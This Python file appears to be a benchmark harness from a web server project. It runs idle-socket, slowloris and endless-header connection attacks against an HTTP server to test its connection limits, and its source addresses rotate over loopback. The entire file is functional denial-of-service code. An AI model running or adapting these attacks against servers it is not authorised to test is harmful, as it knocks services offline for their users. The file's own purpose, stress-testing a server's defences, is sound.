"""Connection attacks on an HTTP server: idle sockets, slowloris, endless headers.

One process runs one attack and prints a JSON report on its last line. Use it alone against
any server, or through ``bench/connections/run.py``, which runs it beside a ``/healthz``
probe against Tidings with and without its connection limits.

  idle       hold N connections that never send a byte; reopen each one the server closes
  slowloris  C clients that send a request line, then one more header line every few
             seconds and never the blank line; reconnect when the server closes
  headers    C clients that each send an endless header (``--header-mb`` of it), then wait;
             again when the server closes

Source addresses rotate over 127.0.0.2... (``--sources``) so that tens of thousands of
connections and their reconnections do not run out of local ports on loopback.

  python bench/connections/attack.py idle --port 8000 --count 20000 --seconds 30
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import resource
import time
from collections.abc import Awaitable, Callable
from dataclasses import asdict, dataclass, field

# One attack on one open connection: what it does until the server closes it or the run ends;
# it answers the first bytes the server sent (b"" when none).
Talk = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[bytes]]


@dataclass
class Tally:
    opened: int = 0  # connections established
    connect_failures: int = 0  # refused, reset or timed out while connecting
    closed_by_server: int = 0  # EOF or reset on a connection we kept open
    held_s: list[float] = field(default_factory=list)  # how long each closed one was held
    open_now: int = 0
    open_max: int = 0
    held_to_end: int = 0  # connections still open when the attack stopped
    bytes_sent: int = 0
    answers: dict[str, int] = field(default_factory=dict)  # first status line seen -> count

    def report(self, seconds: float) -> dict[str, object]:
        held = sorted(self.held_s)
        out = asdict(self)
        del out["held_s"]
        out["held_s_max"] = round(held[-1], 2) if held else None
        out["held_s_median"] = round(held[len(held) // 2], 2) if held else None
        out["seconds"] = seconds
        usage = resource.getrusage(resource.RUSAGE_SELF)
        out["cpu_s"] = round(usage.ru_utime + usage.ru_stime, 2)
        return out


class Attack:
    def __init__(self, args: argparse.Namespace) -> None:
        self.args = args
        self.tally = Tally()
        self.sources = [f"127.0.0.{2 + i}" for i in range(args.sources)]
        self._next_source = 0
        self.stop_at = 0.0
        self.opening = asyncio.Semaphore(args.concurrency)  # connects in flight at once

    def source(self) -> str:
        self._next_source = (self._next_source + 1) % len(self.sources)
        return self.sources[self._next_source]

    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
        async with self.opening:
            try:
                async with asyncio.timeout(10):
                    pair = await asyncio.open_connection(
                        self.args.host, self.args.port, local_addr=(self.source(), 0)
                    )
            except (OSError, TimeoutError):
                self.tally.connect_failures += 1
                await asyncio.sleep(0.2)
                return None
        self.tally.opened += 1
        self.tally.open_now += 1
        self.tally.open_max = max(self.tally.open_max, self.tally.open_now)
        return pair

    def closed(self, writer: asyncio.StreamWriter, since: float, first: bytes) -> None:
        self.tally.open_now -= 1
        if time.monotonic() < self.stop_at:
            self.tally.closed_by_server += 1
            self.tally.held_s.append(time.monotonic() - since)
            status = first.split(b"\r\n", 1)[0].decode(errors="replace")[:40] or "(closed)"
            self.tally.answers[status] = self.tally.answers.get(status, 0) + 1
        else:
            self.tally.held_to_end += 1
        writer.transport.abort()

    async def send(self, writer: asyncio.StreamWriter, data: bytes) -> None:
        writer.write(data)
        self.tally.bytes_sent += len(data)
        await writer.drain()

    # -- the attacks -----------------------------------------------------------------------

    async def repeat(self, talk: Talk, pause: float = 0.0) -> None:
        """Connect, ``talk`` until the server closes or the run ends, count how it ended;
        again until the run ends (after ``pause`` seconds, as a real client takes)."""
        while time.monotonic() < self.stop_at:
            pair = await self.connect()
            if pair is None:
                continue
            reader, writer = pair
            since = time.monotonic()
            self.closed(writer, since, await talk(reader, writer))
            if pause:
                await asyncio.sleep(pause)

    def left_s(self) -> float:
        return max(self.stop_at - time.monotonic(), 0)

    async def idle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> bytes:
        """Never send: wait for the server to close (its first bytes, if any)."""
        with contextlib.suppress(OSError, TimeoutError):
            async with asyncio.timeout(self.left_s()):
                return await reader.read(4096)
        return b""

    async def slowloris(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> bytes:
        """Never finish the headers: one more header line every ``--interval`` seconds."""
        try:
            await self.send(writer, b"GET /healthz HTTP/1.1\r\nHost: target\r\n")
            n = 0
            while time.monotonic() < self.stop_at:
                with contextlib.suppress(TimeoutError):
                    async with asyncio.timeout(self.args.interval):
                        return await reader.read(4096)  # the server answered or closed
                n += 1
                await self.send(writer, b"X-Slow-%d: %d\r\n" % (n, n))
        except OSError:
            pass
        return b""

    async def headers(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> bytes:
        """Send one endless header (``--header-mb``), then hold."""
        chunk = b"a" * 65_536
        try:
            await self.send(writer, b"GET /healthz HTTP/1.1\r\nHost: target\r\nX-Endless: ")
            for _ in range(self.args.header_mb * 16):
                if reader.at_eof() or time.monotonic() > self.stop_at:
                    break
                await self.send(writer, chunk)
            async with asyncio.timeout(self.left_s()):
                return await reader.read(4096)
        except (OSError, TimeoutError):
            return b""

    async def run(self) -> dict[str, object]:
        self.stop_at = time.monotonic() + self.args.seconds
        talks: dict[str, tuple[Talk, float]] = {  # and the pause before the next connection
            "idle": (self.idle, 0.0),
            "slowloris": (self.slowloris, 0.0),
            "headers": (self.headers, 0.5),
        }
        talk, pause = talks[self.args.attack]
        async with asyncio.TaskGroup() as group:
            for _ in range(self.args.count):
                group.create_task(self.repeat(talk, pause))
        return self.tally.report(self.args.seconds)


def raise_open_files() -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("attack", choices=["idle", "slowloris", "headers"])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=8000)
    parser.add_argument("--count", type=int, default=1000, help="connections or clients")
    parser.add_argument("--seconds", type=float, default=30.0)
    parser.add_argument("--interval", type=float, default=5.0, help="slowloris: s per line")
    parser.add_argument("--header-mb", type=int, default=50, help="headers: MB per client")
    parser.add_argument("--concurrency", type=int, default=500, help="connects in flight")
    parser.add_argument("--sources", type=int, default=8, help="127.0.0.2... addresses")
    args = parser.parse_args()
    raise_open_files()
    with contextlib.suppress(ImportError):
        import uvloop

        uvloop.install()
    report = asyncio.run(Attack(args).run())
    print(json.dumps({"attack": args.attack, "count": args.count, **report}), flush=True)


if __name__ == "__main__":
    main()
